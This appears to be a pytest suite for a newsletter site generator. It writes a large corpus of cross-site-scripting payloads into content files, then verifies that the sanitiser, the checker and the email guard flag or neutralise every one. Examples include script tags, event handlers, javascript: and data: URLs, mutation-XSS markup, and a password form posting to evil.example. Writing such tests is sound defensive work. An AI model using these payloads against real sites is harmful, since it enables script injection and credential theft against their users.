"""Hostile content: script injection through every field kind, built for real.

A copy of the project gets a corpus of injection markers (each tagged `mNN`, one per
line) in every kind of field: an issue's plain-text fields and sections, a resource, a
catalyzer, a blog post (front matter, excerpt and body), the blog's authors file and a
hand-written page. Then, with the real commands:

- `catalyst check` fails, and names each marker's file and line;
- `catalyst build` and `catalyst email` succeed, and no page of the site, no email and no
  web copy of it carries script that content put there: parsed with lxml, every element
  and attribute is looked at (script elements must be the theme's own, known from a build
  of the untouched project; no event handler; no javascript:/data:/vbscript: URL in any
  URL attribute or CSS url(); no frame, object, form or meta refresh);
- plain text is shown as typed, not read as HTML, Markdown or an attribute list.
"""

from __future__ import annotations

import html
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urljoin

import pytest
from lxml import html as lxml_html

from conftest import copy_project

MONTH = "2023-06"
SUBSCRIBE = "https://example.us21.list-manage.com/subscribe/post"

# ---------------------------------------------------------------------------- the corpus

ISSUE = """---
month: 2023-06
title: 'Trust { onclick="alert(''m01'')" }'
subject: "<script>alert('m02')</script> Catalyst"
preview_text: "<img src=x onerror=alert('m03')> Preview"
greeting: "[Hi](javascript:alert('m04'))"
sign_off: "<iframe src=javascript:alert('m05')></iframe>"
signature: "Devin {: onmouseover=alert('m06') }"
sections:
  - kind: announcement
    title: "Now](javascript:alert('m07'))"
    text: "<form action=javascript:alert('m08')><button>Go</button></form>"
    button: "Go](javascript:alert('m09'))"
    url: "https://example.org/x)](javascript:alert('m10')"
  - kind: story
    title: "<svg onload=alert('m11')>"
    image: assets/images/design39-design-studio.png
    image_alt: "\\" onerror=\\"alert('m12')"
    caption: "</figcaption><script>alert('m13')</script>"
    body: |
      Story text <img src="https://example.org/a.png" onerror="alert('m14')">
      and <a href="&#106;avascript:alert('m15')">an encoded link</a>.
    link:
      text: "More](javascript:alert('m16'))"
      url: "https://example.org/)](javascript:alert('m17')"
  - kind: resources
    heading: "Resources <b onclick=alert('m18')>"
    intro: "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) here"  # m19
    items:
      - hostile-resource
      - leading-the-way-to-trust-and-connectedness
  - kind: highlights
    heading: From our partners
    items:
      - title: "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"  # m20
        quote: "<style>body{background:url(javascript:alert('m21'))}</style>"
        attribution: "<a href=javascript:alert('m22')>x</a>"
  - kind: catalyzer
    heading: Learner-Centered Catalyzer
    intro: >-
      <div style="background:url(javascript:alert('m23'));width:expression(alert(1))">x</div>
---

The letter begins.

<script>alert('m24')</script>

A link <a href=javascript:alert('m25')>written unquoted</a>.

<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="m26">

<meta http-equiv="refresh" content="0;url=javascript:alert('m27')">

A paragraph with an attribute list.
{: onclick="alert('m28')" }

A [Markdown link](javascript:alert(document.domain)) (m29).

<svg><script>alert('m30')</script></svg>

<details open ontoggle=alert('m31')><summary>Open</summary>Text</details>

<a href="  JaVa&#x09;ScRiPt:alert('m32')">spaced and mixed case</a>

<img srcset="javascript:alert('m33') 1x" alt="srcset">

<math><mtext><table><mglyph><style><img src=x onerror=alert('m34')></style></mglyph></table>
</mtext></math>

<base href="javascript:alert('m35')//">

<a href="vbscript:msgbox('m36')">vb</a>

<object data="javascript:alert('m37')"></object><embed src="javascript:alert('m37')">

<button formaction="javascript:alert('m38')">button</button>

<p id="__config">{"base": "/", "search": "data:text/javascript,alert('m65')"}</p>

The letter ends.
"""

RESOURCE = """---
title: "Lead](javascript:alert('m39'))"
kind: event
url: "https://example.org/v)](javascript:alert('m40')"
date: 2023-06-02
starts: 2023-09-14T16:00:00-04:00
location: "<script>alert('m41')</script>"
summary: "<object data=javascript:alert('m42')></object> A summary."
quote: "Quote { onclick=alert('m43') }"
---
"""

CATALYZER = """---
name: "Contessa](javascript:alert('m44')) { onclick=alert('m44') }"
role: "<img src=x onerror=alert('m45')>"
organization: "{: onclick=alert('m46') }"
location: Muhlenberg County, KY
month: 2023-06
links:
  - title: "x](javascript:alert('m47'))"
    url: "https://example.org/l)](javascript:alert('m48')"
social:
  twitter: "x](javascript:alert('m49'))"
  linkedin: "\\"><script>alert('m50')</script>"
---

Contessa's profile.

A <a href="javascript:alert('m51')">script link</a> in the profile.

![An image](javascript:alert('m52'))
"""

POST_FRONT = """---
date: 2023-06-01
title: "<script>alert('m53')</script> Post { onclick=alert('m53') }"
description: "\\"><script>alert('m54')</script>"
image: "https://images.example.com/x.png\\" onload=\\"alert('m55')"
image_alt: A picture
authors:
  - devin
categories:
  - Leadership
  - Collaboration
slug: how-might-learner-centered-systems-promote-relationships-and-teamwork
---

The excerpt <img src="https://example.org/a.png" onerror="alert('m56')">.

<svg onload=alert('m57')><circle r="1"></circle></svg>

## A heading <img src="https://example.org/b.png" onerror="alert('m58')">

<!-- more -->

<iframe src="https://evil.example/m59"></iframe>

<a href="data:text/html,<script>alert('m60')</script>">data</a>

## A heading that wants the theme's id (m66) { #__config }
"""

AUTHORS = """authors:
  devin:
    name: "<img src=x onerror=alert('m61')>"
    description: "<script>alert('m62')</script>"
    avatar: assets/images/authors/devin-vodicka.png
"""

GUIDE_FRONT = """---
title: Editors' guide
description: "\\"><script>alert('m63')</script>"
---

<form action="https://evil.example/m64"><input name="password"></form>
"""

POST = "content/blog/posts/how-might-learner-centered-systems-promote-relationships-and-teamwork.md"
FILES = {
    f"issues/{MONTH}.md": ISSUE,
    "content/resources/hostile-resource.md": RESOURCE,
    "content/catalyzers/contessa-orr.md": CATALYZER,
    POST: POST_FRONT,
    "content/blog/.authors.yml": AUTHORS,
    "content/editors-guide.md": GUIDE_FRONT,
}


def markers() -> dict[str, tuple[str, int]]:
    """Each marker and where it is: mNN -> (path, line)."""
    found: dict[str, tuple[str, int]] = {}
    for path, text in FILES.items():
        for number, line in enumerate(text.split("\n"), 1):
            for marker in re.findall(r"\bm\d\d\b", line):
                found.setdefault(marker, (path, number))
    return found


def write_corpus(project: Path) -> None:
    for path, text in FILES.items():
        (project / path).write_text(text, encoding="utf-8")


def catalyst(project: Path, *args: str) -> subprocess.CompletedProcess:
    """The real command, as an editor runs it."""
    return subprocess.run(
        [sys.executable, "-c", "from catalyst.cli import run; run()",
         "-f", str(project / "mkdocs.yml"), *args],
        capture_output=True,
        text=True,
        cwd=project,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
        timeout=600,
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
    write_corpus(project)
    return project


@pytest.fixture(scope="module")
def checked(hostile: Path) -> subprocess.CompletedProcess:
    return catalyst(hostile, "check")


@pytest.fixture(scope="module")
def hostile_build(hostile: Path) -> tuple[Path, Path]:
    """The hostile project built with `catalyst build` and `catalyst email`."""
    built = catalyst(hostile, "build")
    assert built.returncode == 0, built.stdout + built.stderr
    email = catalyst(hostile, "email", MONTH, "-o", str(hostile / "out"))
    assert email.returncode == 0, email.stdout + email.stderr
    return hostile / "site", hostile / "out" / f"{MONTH}.html"


# ---------------------------------------------------------------------------- what is unsafe

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "background",
                  "cite", "data", "xlink:href", "ping", "longdesc", "codebase"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}


def scheme_of(url: str) -> str:
    """What a browser reads as the URL's start: entities decoded, controls and spaces gone."""
    return re.sub(r"[\x00-\x20\x7f]", "", html.unescape(url)).lower()


def css_is_bad(css: str) -> bool:
    css = re.sub(r"[\x00-\x20\x7f]", "", html.unescape(css)).lower()
    urls = re.findall(r"url\(([^)]*)\)", css)
    return "expression(" in css or any(u.strip("'\"").startswith(BAD_SCHEMES) for u in urls)


def theme_form(form) -> str:
    return f"form {form.get('class')} {form.get('action')}"


def normalised_script(text: str) -> str:
    """An inline theme script without the page's relative path to the site root."""
    text = re.sub(r"(\.\./)+", "", text or "")
    return re.sub(r'"(\.\.|\.|/)"', '"."', text)


def unsafe(document: Path, site: Path | None, theme: set[str]) -> list[str]:
    """Everything in one HTML file that could run script or lead to a script URL. `theme`
    holds what the theme itself writes (its inline scripts and forms, normalised)."""
    found: list[str] = []
    root = lxml_html.parse(str(document)).getroot()
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        where = f"{document.name}:{element.sourceline}: <{tag}>"
        if tag == "script":
            src = element.get("src")
            if src is None and normalised_script(element.text) not in theme:
                found.append(f"{where} inline script not from the theme: {element.text!r}")
            elif src is not None and site is not None and src.startswith("/"):
                target = site / src.lstrip("/")
            elif src is not None:
                target = Path(urljoin(document.as_posix(), src))
            if src is not None:
                inside = site is not None and target.is_relative_to(site / "assets")
                if not (inside and target.is_file()):
                    found.append(f"{where} script from {src}")
        if tag in NEVER:
            found.append(f"{where} is there")
        if tag == "form" and theme_form(element) not in theme:
            found.append(f"{where} a form to {element.get('action')}")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            found.append(f"{where} meta refresh")
        if tag == "meta" and scheme_of(element.get("content", "")).startswith(BAD_SCHEMES):
            found.append(f"{where} meta content {element.get('content')}")
        theme_id = f"id {tag} {element.get('id')}"
        if element.get("id", "").startswith("__") and theme_id not in theme:
            found.append(f"{where} takes the theme's id {element.get('id')!r}")
        if tag == "style" and css_is_bad(element.text or ""):
            found.append(f"{where} {element.text!r}")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                found.append(f"{where} event handler {name}={value!r}")
            elif name == "style" and css_is_bad(value):
                found.append(f"{where} style {value!r}")
            elif name in URL_ATTRIBUTES:
                urls = [p.split()[0] for p in value.split(",") if p.strip()] if name == "srcset" \
                    else [value]
                for url in urls:
                    if scheme_of(url).startswith(BAD_SCHEMES):
                        found.append(f"{where} {name}={value!r}")
    return found


@pytest.fixture(scope="module")
def theme(built_site: Path) -> set[str]:
    """The inline scripts and the forms the site has of its own (the theme's search and
    colour palette, the subscribe form), from the untouched project's build."""
    found = set()
    for page in built_site.rglob("*.html"):
        root = lxml_html.parse(str(page)).getroot()
        found |= {normalised_script(s.text) for s in root.iter("script") if s.get("src") is None}
        found |= {theme_form(form) for form in root.iter("form")}
        found |= {f"id {el.tag} {el.get('id')}" for el in root.xpath("//*[starts-with(@id,'__')]")}
    return found


# ---------------------------------------------------------------------------- the tests


def test_the_corpus_has_at_least_60_distinct_markers_in_every_kind_of_file():
    found = markers()
    assert len(found) >= 60
    assert {path for path, _ in found.values()} == set(FILES)


def test_check_names_every_marker_with_its_file_and_line(checked):
    result = checked
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    reported = set(re.findall(r"^(\S+?):(\d+): error: ", result.stdout, re.M))
    missing = [
        f"{marker} ({path}:{line})"
        for marker, (path, line) in sorted(markers().items())
        if (path, str(line)) not in reported
    ]
    assert not missing, f"not reported: {missing}\n{result.stdout}"


@pytest.mark.parametrize(
    ("marker", "says"),
    [
        ("m24", "body: raw HTML <script> is not allowed (allowed: p, a, em, strong, lists,"),
        ("m29", "body: link 'javascript:alert(document.domain)' uses a scheme that is not allowed"),
        ("m15", "link 'javascript:alert('m15')' uses a scheme that is not allowed"),
        ("m31", "attribute 'ontoggle' on <details> is an event handler"),
        ("m01", "title: '{ onclick=\"alert('m01')\" }' is an attribute list ({ ... }), but "
                "this field is plain text"),
        ("m10", "sections[0].url: 'https://example.org/x)](javascript:alert('m10')' holds ]"),
        ("m49", "social.twitter: 'x](javascript:alert('m49'))' is not a handle"),
        ("m61", "authors.devin.name: '<img' is HTML, but this field is plain text"),
    ],
)
def test_check_says_what_is_wrong(checked, marker, says):
    result = checked
    path, line = markers()[marker]
    lines = [x for x in result.stdout.splitlines() if x.startswith(f"{path}:{line}: error: ")]
    assert any(says in x for x in lines), lines


def test_no_page_of_the_site_carries_script_from_content(hostile_build, theme):
    site, _ = hostile_build
    pages = sorted(site.rglob("*.html"))
    assert len(pages) >= 14
    assert any(f.startswith("form catalyst-subscribe https://") for f in theme)
    found = [problem for page in pages for problem in unsafe(page, site, theme)]
    assert not found, "\n".join(found)


def test_the_email_and_its_web_copy_carry_no_script(hostile_build):
    site, email = hostile_build
    copy = site / "issues" / MONTH / "email.html"
    for document in (email, copy):
        assert document.is_file()
        found = unsafe(document, None, set())
        # The email has no script at all, not even the theme's.
        assert not found, "\n".join(found)
        root = lxml_html.parse(str(document)).getroot()
        assert not root.xpath("//script | //style[position() > 1]")


def test_the_feeds_carry_no_script(hostile_build, tmp_path):
    """RSS descriptions and JSON Feed content are HTML to a feed reader: they are checked
    as pages are."""
    import json

    from lxml import etree

    site, _ = hostile_build
    fragments = []
    for feed in sorted(site.glob("feed_rss_*ed.xml")):  # the blog's (created, updated)
        fragments += [item.findtext("description") or "" for item in
                      etree.parse(str(feed)).getroot().iter("item")]
    for feed in sorted(site.glob("feed_json_*ed.json")):
        fragments += [item.get("content_html") or "" for item in
                      json.loads(feed.read_text(encoding="utf-8"))["items"]]
    assert len(fragments) == 4 and all(fragments)
    for n, fragment in enumerate(fragments):
        page = tmp_path / f"item-{n}.html"
        page.write_text(f"<html><body>{fragment}</body></html>", encoding="utf-8")
        assert unsafe(page, None, set()) == []
        assert lxml_html.parse(str(page)).getroot().text_content().strip() == (
            "\"><script>alert('m54')</script>"
        )


def test_the_issue_feeds_carry_no_script(hostile_build, tmp_path):
    """The issues' feeds (catalyst.site.feeds): the RSS description is HTML to a reader (the
    preview text, escaped, reads as typed), the content is the sanitised email."""
    import json

    from lxml import etree

    site, _ = hostile_build
    content = "{http://purl.org/rss/1.0/modules/content/}encoded"
    [item] = etree.parse(str(site / "feed_rss_issues.xml")).getroot().iter("item")
    [entry] = json.loads((site / "feed_json_issues.json").read_text(encoding="utf-8"))["items"]
    description = tmp_path / "description.html"
    description.write_text(f"<html><body>{item.findtext('description')}</body></html>",
                           encoding="utf-8")
    assert unsafe(description, None, set()) == []
    typed = lxml_html.parse(str(description)).getroot().text_content().strip()
    assert typed == entry["summary"] and "onerror=alert(" in typed  # shown, not run
    for n, fragment in enumerate([item.findtext(content), entry["content_html"]]):
        assert fragment
        page = tmp_path / f"issue-{n}.html"
        page.write_text(f"<html><body>{fragment}</body></html>", encoding="utf-8")
        assert unsafe(page, None, set()) == []


def text_of(element) -> str:
    """An element's text as a reader sees it (less the heading's permalink sign)."""
    parts = [element.text or ""]
    for child in element:
        if "headerlink" not in (child.get("class") or ""):
            parts.append(child.text_content())
        parts.append(child.tail or "")
    return " ".join("".join(parts).split())


def test_plain_text_shows_as_typed_on_the_site(hostile_build):
    site, _ = hostile_build
    issue = lxml_html.parse(str(site / "issues" / MONTH / "index.html")).getroot()
    assert text_of(issue.xpath("//article//h1")[0]) == "Trust { onclick=\"alert('m01')\" }"
    headings = [text_of(h) for h in issue.xpath("//article//h2")]
    assert "Now](javascript:alert('m07'))" in headings
    assert "<svg onload=alert('m11')>" in headings
    button = issue.xpath("//a[contains(@class, 'md-button--primary')]")[0]
    assert text_of(button) == "Go](javascript:alert('m09'))"
    # The URL's `)` and `]` are percent-encoded: the link keeps its https address.
    assert button.get("href") == "https://example.org/x%29%5D%28javascript:alert%28%27m10%27%29"
    person = lxml_html.parse(str(site / "catalyzers" / "contessa-orr" / "index.html")).getroot()
    assert text_of(person.xpath("//article//h1")[0]) == (
        "Contessa](javascript:alert('m44')) { onclick=alert('m44') }"
    )
    social = person.xpath("//a[contains(., 'on X (Twitter)')]")[0]
    assert social.get("href").startswith("https://x.com/x%5D%28javascript")
    resources = lxml_html.parse(str(site / "resources" / "index.html")).getroot()
    titles = [text_of(a) for a in resources.xpath("//div[contains(@class, 'cards')]//strong/a")]
    assert "Lead](javascript:alert('m39'))" in titles


def test_the_theme_prints_front_matter_as_text(hostile_build):
    site, _ = hostile_build
    post_dir = site / "blog" / "2023" / "06"
    post = next(post_dir.glob("*/index.html"))
    root = lxml_html.parse(str(post)).getroot()
    assert "<script>alert('m53')</script> Post" in root.findtext(".//title")
    description = root.xpath("//meta[@name='description']")[0].get("content")
    assert description == "\"><script>alert('m54')</script>"
    image = root.xpath("//meta[@property='og:image']")[0].get("content")
    assert image == "https://images.example.com/x.png\" onload=\"alert('m55')"
    blog = lxml_html.parse(str(site / "blog" / "index.html")).getroot()
    excerpt = blog.xpath("//article[contains(@class, 'md-post--excerpt')]")[0]
    assert "<script>alert('m53')</script> Post" in text_of(excerpt.xpath(".//h2")[0])
    # The card names its authors in words (the avatar beside the name is decoration).
    authors = excerpt.xpath(".//span[contains(@class, 'catalyst-post-card__authors')]")[0]
    assert "<img src=x onerror=alert('m61')>" in text_of(authors)


def test_the_home_page_keeps_its_own_subscribe_form(hostile_build):
    site, _ = hostile_build
    home = lxml_html.parse(str(site / "index.html")).getroot()
    forms = home.xpath("//article//form")  # the theme's search and palette are outside
    assert len(forms) == 1
    assert forms[0].get("action").startswith(SUBSCRIBE)
    assert forms[0].xpath(".//input[@type='email'][@name='EMAIL']")
    guide = lxml_html.parse(str(site / "editors-guide" / "index.html")).getroot()
    assert not guide.xpath("//article//form | //input[@name='password']")


def test_the_email_shows_plain_text_as_typed(hostile_build):
    _, email = hostile_build
    root = lxml_html.parse(str(email)).getroot()
    assert text_of(root.xpath("//h1")[0]) == "Trust { onclick=\"alert('m01')\" }"
    assert root.findtext(".//title") == "<script>alert('m02')</script> Catalyst"
    # The letter's own text is kept; its scripts are gone with their text.
    letter = text_of(root.xpath("//td[contains(@class, 'cell-first')]")[0])
    assert "The letter begins." in letter and "The letter ends." in letter
    assert "m24" not in letter and "m30" not in letter


# ---------------------------------------------------------------------------- templates


@pytest.mark.parametrize(
    ("front_matter", "says"),
    [
        (
            "template: redirect.html\nlocation: javascript:alert(1)\n",
            "content/editors-guide.md:3: error: template: 'redirect.html' is not allowed",
        ),
        (
            "image: javascript:alert(2)\nimage_alt: A picture\n",
            "content/editors-guide.md:3: error: image: link 'javascript:alert(2)' uses a scheme",
        ),
    ],
)
def test_another_template_or_a_script_image_fails_check_and_build(project, front_matter, says):
    """Material's redirect.html would run `location` as script: no page may ask for it. An
    `image:` goes into og:image: only URLs the policy allows."""
    guide = project / "content" / "editors-guide.md"
    text = guide.read_text(encoding="utf-8")
    guide.write_text(text.replace("title: Editors' guide\n", "title: Editors' guide\n"
                                  + front_matter, 1), encoding="utf-8")
    checked = catalyst(project, "check")
    assert checked.returncode == 1
    assert says in checked.stdout
    built = catalyst(project, "build")
    assert built.returncode == 1
    # The build may refuse it at an earlier gate (the loader), with its own words: the
    # same file, line and field.
    where, field = says.split(" error: ")[0], says.split(" error: ")[1].split(":")[0]
    assert f"{where} error: {field}:" in built.stdout + built.stderr
    assert "Traceback" not in built.stdout + built.stderr
    assert not (project / "site").exists()


# ---------------------------------------------------------------------------- email guard


@pytest.fixture(scope="module")
def seed_email():
    from catalyst.content import loader as content
    from catalyst.email import build as emails
    from catalyst.settings import load_settings

    root = Path(__file__).resolve().parent.parent
    settings = load_settings(root / "mkdocs.yml")
    library, _ = content.load(settings)
    return settings, library.issues[MONTH], emails.build(settings, library, MONTH, cache=False)


@pytest.mark.parametrize(
    ("snippet", "says"),
    [
        ('<a href=javascript:alert(1)>x</a>', "'javascript:alert(1)' is not an absolute"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "'javascript:alert(1)' is not an absolute"),
        ('<a href=" java\tscript:alert(1)">x</a>', "is not an absolute https:// address"),
        ('<img src="data:image/png;base64,AAAA" alt="">', "'data:image/png;base64,AAAA'"),
        ('<img src="http://example.org/a.png" alt="">', "'http://example.org/a.png'"),
        ('<p onclick="alert(1)">x</p>', "event handler 'onclick' on <p>"),
        ('<meta http-equiv="refresh" content="0;url=https://x.org">', "http-equiv='refresh'"),
        ('<img srcset="https://x.org/a.png 1x, javascript:alert(1) 2x" alt="">',
         "'javascript:alert(1)' is not an absolute https:// address (srcset on <img>)"),
        ('<td background="javascript:alert(1)">x</td>', "(background on <td>)"),
        ('<video poster="javascript:alert(1)"></video>', "(poster on <video>)"),
        ('<form action="https://x.org"><input></form>', "<form> is not allowed"),
        ('<iframe src="https://x.org"></iframe>', "<iframe> is not allowed"),
        ('<script>alert(1)</script>', "<script> is not allowed"),
        ('<p style="background:url(javascript:alert(1))">x</p>', "'javascript:' in style"),
        ('<p style="width:expression(alert(1))">x</p>', "'expression(' in style on <p>"),
        ('<!--[if mso]><v:roundrect href="javascript:alert(1)"></v:roundrect><![endif]-->',
         "'javascript:alert(1)' is not an absolute https:// address (href on <roundrect>)"),
    ],
)
def test_the_emails_last_guard_refuses_what_the_old_one_let_through(seed_email, snippet, says):
    from catalyst.email.inline import check_urls
    from catalyst.errors import EmailError

    settings, issue, email = seed_email
    check_urls(email.html, issue, settings)  # the real email passes
    hostile = email.html.replace("</body>", f"{snippet}\n</body>", 1)
    with pytest.raises(EmailError) as error:
        check_urls(hostile, issue, settings)
    assert str(error.value).startswith(f"issues/{MONTH}.md:1: ")
    assert says in str(error.value)


def test_the_guard_runs_after_premailer_on_the_finished_email(project):
    """An unquoted href that only premailer would quote is still refused, naming the file."""
    from catalyst.content import loader as content
    from catalyst.email import build as emails
    from catalyst.errors import EmailError
    from catalyst.settings import load_settings

    templates = project / "templates" / "email" / "issue.html.j2"
    templates.write_text(
        templates.read_text(encoding="utf-8").replace(
            "</body>", "<a href=javascript:alert(1)>x</a>\n</body>", 1
        ),
        encoding="utf-8",
    )
    settings = load_settings(project / "mkdocs.yml")
    library, _ = content.load(settings)
    with pytest.raises(EmailError) as error:
        emails.build(settings, library, MONTH, cache=False)
    assert "'javascript:alert(1)' is not an absolute https:// address (href on <a>)" in str(
        error.value
    )


def test_the_corpus_files_parse_as_the_loader_expects(hostile):
    """Guard for the corpus itself: every file loads, so each marker reaches the output."""
    from catalyst.content import loader as content
    from catalyst.settings import load_settings

    settings = load_settings(hostile / "mkdocs.yml")
    library, problems = content.load(settings)
    assert [p for p in problems if p.level == "error"] == []
    assert "hostile-resource" in library.resources
    assert library.issues[MONTH].sections[1].image_alt == "\" onerror=\"alert('m12')"


def test_the_detector_finds_each_kind_of_injection(tmp_path):
    """`unsafe` reports what it looks for, so a clean result above means something."""
    page = tmp_path / "page.html"
    page.write_text(
        "<html><head><meta http-equiv=refresh content='0;url=x'>"
        "<meta property=og:image content='javascript:x'></head><body>"
        "<script>alert(1)</script><p id=__config onclick=alert(1)>x</p>"
        "<a href=' jav&#x61;script:x'>y</a>"
        "<img srcset='https://a.org/a.png 1x, data:x 2x'><iframe></iframe>"
        "<form action='https://evil.example/'></form><p style='background:url(javascript:x)'>"
        "</p><style>p{width:expression(1)}</style></body></html>",
        encoding="utf-8",
    )
    found = unsafe(page, tmp_path, set())
    for what in ("takes the theme's id '__config'", "meta refresh", "meta content",
                 "inline script", "event handler onclick", "href=", "srcset=",
                 "<iframe> is there", "a form to", "style 'background", "<style>"):
        assert any(what in problem for problem in found), (what, found)


# ---------------------------------------------------------------------------- the policy's parts


def tree(fragment: str) -> list[tuple]:
    """An HTML fragment as a browser's parser sees it: elements, attributes and text."""
    root = lxml_html.fragment_fromstring(fragment, create_parent="div")
    return [
        (el.tag, sorted((k, " ".join(v.split())) for k, v in el.attrib.items()),
         " ".join((el.text or "").split()), " ".join((el.tail or "").split()))
        for el in root.iter()
        if isinstance(el.tag, str)
    ]


def test_the_sanitiser_keeps_what_the_sites_markdown_extensions_draw():
    """Admonitions, footnotes, abbreviations, aligned tables, permalinks, icons, classes and
    md_in_html, converted with the project's own mkdocs.yml: nothing is lost."""
    import markdown
    from mkdocs.config import load_config

    from catalyst import safety

    config = load_config(str(Path(__file__).resolve().parent.parent / "mkdocs.yml"))
    md = markdown.Markdown(
        extensions=config.markdown_extensions, extension_configs=config.mdx_configs
    )
    source = """
## A heading { #custom .wide }

!!! note "A note"
    With *emphasis*, `code`, a [link](https://example.org "Title") and a footnote[^1].

| Left | Centre | Right |
| :--- | :----: | ----: |
| a    |   b    |     c |

:material-post-outline:{ .lg .middle } An icon, and an HTML abbreviation.

<div class="catalyst-hero" markdown>
<p class="catalyst-eyebrow">Eyebrow</p>

> A quote, ![an image](https://example.org/a.png){ loading=lazy width=300 }
</div>

<figure class="pull-quote" markdown>
> Quoted.
<figcaption>— <cite>Someone</cite></figcaption>
</figure>

<details><summary>More</summary>Hidden text.</details>

1. one
2. two

*[HTML]: Hyper Text Markup Language
[^1]: The footnote, with a [mailto link](mailto:a@example.org).
"""
    produced = md.convert(source)
    assert "<svg" in produced and 'class="footnote"' in produced and "<abbr" in produced
    assert "text-align: center" in produced and "headerlink" in produced
    assert tree(safety.clean(produced)) == tree(produced)


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("https://example.org/a", "https"),
        ("../blog/index.md#top", None),
        ("#anchor", None),
        ("//example.org/a", None),
        ("mailto:a@example.org", "mailto"),
        ("JaVaScRiPt:alert(1)", "javascript"),
        ("  javascript:alert(1)", "javascript"),
        ("java\tscript:alert(1)", "javascript"),
        ("java\nscript:alert(1)", "javascript"),
        ("\x01javascript:alert(1)", "javascript"),
        ("&#106;avascript:alert(1)", "javascript"),
        ("&#x6A;avascript&colon;alert(1)", "javascript"),
        ("java\u200bscript:alert(1)", "javascript"),
        ("data:text/html,x", "data"),
        (" vbscript:msgbox(1)", "vbscript"),
    ],
)
def test_the_scheme_is_read_as_a_browser_reads_it(url, scheme):
    from catalyst import safety

    assert safety.url_scheme(url) == scheme
    assert safety.safe_url(url) is (scheme in (None, "https", "mailto"))


@pytest.mark.parametrize(
    "value",
    [
        "Trust { onclick=\"alert(1)\" }",
        "x](javascript:alert(1)) and ![i](javascript:alert(2))",
        "<img src=x onerror=alert(1)> & `code` *em* _em_ [ref][1] :material-post: \\*",
        "# Not a heading",
        "- not a list",
        "1. not a list",
        "Line one\nline two",
        "A title | with | pipes ~~ ^^ !!",
    ],
)
def test_plain_text_in_generated_markdown_shows_exactly_as_typed(value):
    import markdown

    from catalyst import safety

    md = markdown.Markdown(extensions=["attr_list", "md_in_html", "pymdownx.emoji", "tables"])
    shown = safety.markdown_text(value)
    expected = " ".join(value.split())
    for source in (f"## {shown}", f"{shown}", f'<div markdown>\n<p class="x">{shown}</p>\n</div>',
                   f"[{shown}](https://example.org)"):
        root = lxml_html.fragment_fromstring(md.reset().convert(source), create_parent="div")
        elements = [el for el in root.iterdescendants() if isinstance(el.tag, str)]
        assert [el.tag for el in elements] in (["h2"], ["p"], ["div", "p"], ["p", "a"]), source
        assert all(not el.attrib or el.attrib in ({"class": "x"}, {"id": el.get("id")},
                                                  {"href": "https://example.org"})
                   for el in elements)
        assert " ".join(root.text_content().split()) == expected


def test_a_url_in_generated_markdown_stays_one_link_to_where_it_points():
    import markdown

    from catalyst import safety

    md = markdown.Markdown(extensions=["attr_list"])
    for url in ("https://example.org/x)](javascript:alert(1))",
                "https://en.wikipedia.org/wiki/Ada_(programmer)",
                'https://example.org/a b"c\'d<e>{f}'):
        root = lxml_html.fragment_fromstring(
            md.reset().convert(f"[label]({safety.markdown_url(url)}){{ .button }}"),
            create_parent="div",
        )
        links = root.xpath("//a")
        assert len(links) == 1 and links[0].text == "label"
        assert links[0].get("class") == "button"
        href = links[0].get("href")
        assert href.startswith("https://") and not re.search(r"""[\s()"'<>{}\[\]]""", href)
    assert safety.markdown_url("javascript:alert(1)") == "#"


def test_each_email_fragment_is_sanitised_and_its_text_part_keeps_only_text():
    from catalyst.email import markdown as render

    source = (
        "Hi <script>alert(1)</script><b onclick=alert(2)>bold</b> "
        "[a link](javascript:alert(3)) <img src=\"https://example.org/a.png\" onerror=x>\n\n"
        "<style>p{color:red}</style><iframe src=\"https://example.org\"></iframe>"
    )
    produced = render.markdown_to_html(source)
    root = lxml_html.fragment_fromstring(produced, create_parent="div")
    assert not root.xpath("//script | //style | //iframe | //*[@onclick] | //*[@onerror]")
    assert root.xpath("//a")[0].get("href") is None
    assert root.xpath("//b")[0].text == "bold"
    # The text part is text: no tag, no script URL. (The words between an inline <script>'s
    # tags stay words, as Markdown reads inline tags one at a time; a block's go with it.)
    text = render.markdown_to_text(source)
    assert "<" not in text and "javascript" not in text and "color:red" not in text
    assert "bold" in text and "a link" in text


LEGITIMATE = """---
date: 2023-07-01
authors:
  - devin
categories:
  - Leadership
slug: what-editors-write
description: "Teams & trust: what's \\"learner-centered\\"? A 1st look <3"
---

# What editors write: tables, quotes & code

An *opening* with **emphasis**, a [page of the site](../../index.md), a
[mail](mailto:catalyst@example.org), a [phone](tel:+15555550100), an
[outside link](https://example.org/a_(b)?c=1&d=2 "Its title") and HTML.[^1]

<!-- more -->

## A heading with its own id { #own-id .wide }

| Left | Centre |
| :--- | :----: |
| a    |   b    |

<figure class="pull-quote" markdown>
> A quote.
<figcaption>— <cite>Someone</cite></figcaption>
</figure>

<details><summary>More</summary><p>Hidden <abbr title="Learning Designer">LD</abbr>.</p></details>

<img src="../../assets/images/logo.svg" alt="The logo" width="120" height="40">

```html
<script>alert("this is an example in a code block")</script>
```

Inline `<script>` in code, and <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>.

*[HTML]: Hyper Text Markup Language
[^1]: A footnote.
"""


def test_what_editors_legitimately_write_passes_check_and_renders_whole(project, tmp_path):
    from catalyst import checks as check
    from catalyst.settings import load_settings
    from conftest import mkdocs_build

    post = project / "content" / "blog" / "posts" / "what-editors-write.md"
    post.write_text(LEGITIMATE, encoding="utf-8")
    errors = [p for p in check.run(load_settings(project / "mkdocs.yml")) if p.level == "error"]
    assert errors == []
    result = mkdocs_build(project / "mkdocs.yml", tmp_path / "site")
    assert result.returncode == 0, result.stderr
